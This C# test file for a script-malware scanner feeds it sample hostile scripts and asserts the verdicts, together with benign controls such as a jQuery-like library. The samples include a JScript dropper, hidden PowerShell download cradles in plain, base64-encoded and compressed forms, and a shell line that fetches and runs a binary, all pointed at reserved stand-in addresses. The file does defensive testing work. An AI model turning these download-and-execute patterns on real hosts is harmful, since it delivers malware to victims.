using System.IO.Compression;
using System.Text;
using Crible.Model;

namespace Crible.Tests.Scanners.Scripts;

/// <summary>Scripts written by the tests (inert text: the addresses are reserved names and nothing is run).</summary>
public sealed class ScriptScannerTests
{
    private static async Task<Report> Analyse(string text, string name) => await TestEngine.Default.AnalyseAsync(Encoding.UTF8.GetBytes(text), name);

    private static IEnumerable<Finding> Findings(Report report) => report.AllFindings.Select(f => f.Finding);

    [Fact]
    public async Task A_windows_script_host_dropper_is_malicious()
    {
        const string dropper = """
            var http = new ActiveXObject("MSXML2.XMLHTTP");
            http.open("GET", "http://dropper.example.invalid/a.exe", false);
            http.send();
            var stream = new ActiveXObject("ADODB.Stream");
            stream.Open(); stream.Type = 1; stream.Write(http.responseBody);
            stream.SaveToFile("C:\\Users\\Public\\a.exe", 2);
            var shell = new ActiveXObject("WScript.Shell");
            shell.Run("C:\\Users\\Public\\a.exe", 0);
            """;

        var report = await Analyse(dropper, "invoice.js");

        Assert.Equal(Verdict.Malicious, report.Verdict);
        var finding = Assert.Single(Findings(report), f => f.Id == "wsh-dropper");
        Assert.Contains("T1105", finding.Attack);
        Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "http://dropper.example.invalid/a.exe");
    }

    [Fact]
    public async Task A_hidden_powershell_download_cradle_is_malicious()
    {
        var report = await Analyse("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://cradle.example.invalid/p.ps1')\"\n", "run.ps1");

        Assert.Contains(Findings(report), f => f.Id == "download-cradle-hidden" && f.Severity == Severity.Malicious);
        Assert.Contains(Findings(report), f => f.Id == "ps-hidden-window");
    }

    [Fact]
    public async Task An_encoded_command_is_decoded_and_analysed_in_turn()
    {
        var inner = "IEX (New-Object Net.WebClient).DownloadString('http://stage2.example.invalid/x')";
        var encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes(inner));
        var report = await Analyse($"@echo off\r\npowershell.exe -NoProfile -enc {encoded}\r\n", "start.bat");

        var child = Assert.Single(report.Nodes, n => n.Name.StartsWith("encoded-command@", StringComparison.Ordinal));
        Assert.Equal(Relation.Decoded, child.Relation);
        Assert.Contains(child.Findings, f => f.Id == "download-cradle-hidden" && f.Severity == Severity.Malicious);
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "encoded-command" && f.Evidence!.Contains("stage2", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_compressed_base64_payload_is_unpacked_and_emitted()
    {
        var payload = Encoding.UTF8.GetBytes("Write-Output 'second stage from a deflate blob'; Start-Process calc.exe");
        using var output = new MemoryStream();
        using (var deflate = new DeflateStream(output, CompressionLevel.Optimal, leaveOpen: true))
        {
            deflate.Write(payload);
        }

        var blob = Convert.ToBase64String(output.ToArray());
        var script = $"$s = New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{blob}'), [IO.Compression.CompressionMode]::Decompress)\n";
        var report = await Analyse(script, "loader.ps1");

        var child = Assert.Single(report.Nodes, n => n.Name.StartsWith("base64-payload@", StringComparison.Ordinal));
        Assert.Equal(Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(payload)), child.Sha256);
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "base64-payload" && f.Attack.Contains("T1140"));
    }

    [Fact]
    public async Task Obfuscated_script_that_evaluates_code_through_windows_objects_is_malicious()
    {
        var codes = string.Join("", Enumerable.Range(0, 40).Select(i => $"String.fromCharCode({97 + (i % 26)})+"));
        var fragments = string.Join("+", Enumerable.Range(0, 45).Select(i => $"\"{(char)('a' + (i % 26))}{(char)('b' + (i % 20))}\""));
        var script = $"var o = new ActiveXObject(\"WScript.Shell\");\nvar s = {codes}\"\";\nvar t = {fragments};\neval(s + t);\n";
        var report = await Analyse(script, "a.js");

        Assert.Contains(Findings(report), f => f.Id == "obfuscated" && f.Attack.Contains("T1027"));
        Assert.Contains(Findings(report), f => f.Id == "obfuscated-wsh-code" && f.Severity == Severity.Malicious);
    }

    [Fact]
    public async Task Shell_script_fetching_a_program_from_an_address_and_running_it_is_malicious()
    {
        var report = await Analyse("#!/bin/sh\ncd /tmp; wget http://203.0.113.7/bins/x86 -O x; chmod +x x; ./x\n", "i.sh");

        Assert.Contains(Findings(report), f => f.Id == "sh-fetch-and-run" && f.Severity == Severity.Malicious);
        Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Ip && i.Value == "203.0.113.7");
    }

    [Fact]
    public async Task An_installer_piped_to_the_shell_is_suspicious_not_malicious()
    {
        var report = await Analyse("#!/bin/sh\nset -e\ncurl -fsSL https://get.example.org/install.sh | sh\n", "install.sh");

        Assert.Contains(Findings(report), f => f.Id == "sh-pipe-to-shell" && f.Severity == Severity.Suspicious);
        Assert.NotEqual(Verdict.Malicious, report.Verdict);
    }

    [Fact]
    public async Task Library_code_like_jquery_is_not_malicious()
    {
        const string library = """
            (function (global, factory) { typeof module === "object" ? module.exports = factory(global) : factory(global); })(this, function (window) {
              var version = "3.7.1", rtrim = /^[\s\uFEFF\xA0]+|[\s\uFEFF\xA0]+$/g;
              function globalEval(code, doc) { var script = doc.createElement("script"); script.text = code; doc.head.appendChild(script).parentNode.removeChild(script); }
              var xhr = window.ActiveXObject ? new window.ActiveXObject("Microsoft.XMLHTTP") : new window.XMLHttpRequest();
              jQuery.ajax = function (url, options) { xhr.open("GET", url, true); xhr.send(null); return xhr; };
              jQuery.parseJSON = function (data) { return window.JSON.parse(data + ""); };
              jQuery.fn.extend({ show: function () { return this.css("display", "block"); }, hide: function () { return this.css("display", "none"); } });
              return jQuery;
            });
            """;

        var report = await Analyse(library, "jquery.js");

        Assert.DoesNotContain(Findings(report), f => f.Severity == Severity.Malicious);
        Assert.Equal(Verdict.Clean, report.Verdict);
    }

    [Fact]
    public async Task An_ordinary_admin_script_is_not_malicious()
    {
        const string script = """
            param([string]$Path = "C:\Temp\report.csv")
            $items = Get-ChildItem -Path $env:USERPROFILE -Recurse | Where-Object { $_.Length -gt 1MB }
            $items | Select-Object FullName, Length | Export-Csv -Path $Path -NoTypeInformation
            Invoke-WebRequest -Uri "https://intranet.example.org/upload" -Method Post -InFile $Path
            Write-Output "done"
            """;

        var report = await Analyse(script, "report.ps1");

        Assert.NotEqual(Verdict.Malicious, report.Verdict);
    }
}
